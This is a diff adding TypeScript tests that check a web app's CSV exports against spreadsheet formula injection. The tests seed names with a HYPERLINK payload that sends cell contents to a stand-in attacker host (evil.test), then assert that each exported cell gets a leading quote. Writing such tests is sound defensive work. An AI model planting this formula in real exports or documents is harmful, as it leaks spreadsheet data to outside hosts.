@@ -165,3 +165,53 @@ describe('CSV exports have the table’s columns', () => {
     expect((await get('/api/dashboard-invoices/?format=csv&raw=maybe')).statusCode).toBe(400);
   });
 });
+
+describe('CSV formula injection (issue 30 finding 2)', () => {
+  // Each character a spreadsheet starts a formula with; the marker finds the row again.
+  const LEADS = ['=', '+', '-', '@', '\t', '\r'];
+  const payload = (i: number) => `${LEADS[i]}HYPERLINK("http://evil.test/?q="&A1,"XSEC${i}")`;
+  const marked = (cells: string[], i: number) => cells.find((c) => c.includes(`"XSEC${i}")`));
+
+  async function poison(table: 'teams' | 'guests' | 'products', column: 'name') {
+    const rows = (await t.db.execute(sql`select id from ${sql.identifier(table)} where client_id = ${ids.demo} order by id limit ${LEADS.length}`))
+      .rows as { id: number }[];
+    expect(rows).toHaveLength(LEADS.length);
+    for (const [i, r] of rows.entries())
+      await t.db.execute(sql`update ${sql.identifier(table)} set ${sql.identifier(column)} = ${payload(i)} where id = ${r.id}`);
+  }
+
+  it('teams, guests, products and members: every leading character is written with a leading quote, in the shaped and the raw export', async () => {
+    await poison('teams', 'name');
+    await poison('guests', 'name');
+    await poison('products', 'name');
+    const memberUsers = (
+      await t.db.execute(
+        sql`select u.id from users u join members m on m.user_id = u.id where m.client_id = ${ids.demo} order by m.id limit ${LEADS.length}`,
+      )
+    ).rows as { id: number }[];
+    for (const [i, u] of memberUsers.entries()) await t.db.execute(sql`update users set first_name = ${payload(i)} where id = ${u.id}`);
+
+    for (const path of ['/api/teams/', '/api/guests/', '/api/dashboard-products/', '/api/member-list/']) {
+      for (const raw of ['', '&raw=1']) {
+        const { rows } = await csv(`${path}?format=csv&page_size=1000${raw}`);
+        const cells = rows.flat();
+        for (let i = 0; i < LEADS.length; i++) {
+          const cell = marked(cells, i);
+          expect(cell, `${path}${raw} ${JSON.stringify(LEADS[i])}`).toBeDefined();
+          // The member's name is "first last" trimmed: a leading tab or CR is gone, so no formula either way.
+          if (path === '/api/member-list/' && !raw && (LEADS[i] === '\t' || LEADS[i] === '\r')) expect(cell![0]).not.toMatch(/[=+\-@\t\r]/);
+          else expect(cell!.startsWith(`'${payload(i)}`), `${path}${raw} ${JSON.stringify(cell)}`).toBe(true);
+        }
+        // No cell of the export starts a formula.
+        for (const c of cells) expect(c, `${path}${raw}: ${c}`).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+  });
+
+  it('money the writer formats keeps its minus sign: a negative amount stays a number', async () => {
+    const [product] = (await t.db.execute(sql`select id from products where client_id = ${ids.demo} order by id limit 1`)).rows as { id: number }[];
+    await t.db.execute(sql`update products set price_pence = -1250, name = 'Refund test product' where id = ${product.id}`);
+    const { records } = await csv('/api/dashboard-products/?format=csv&page_size=1000');
+    expect(records.find((r) => r.Name === 'Refund test product')?.Price).toBe('-12.50');
+  });
+});
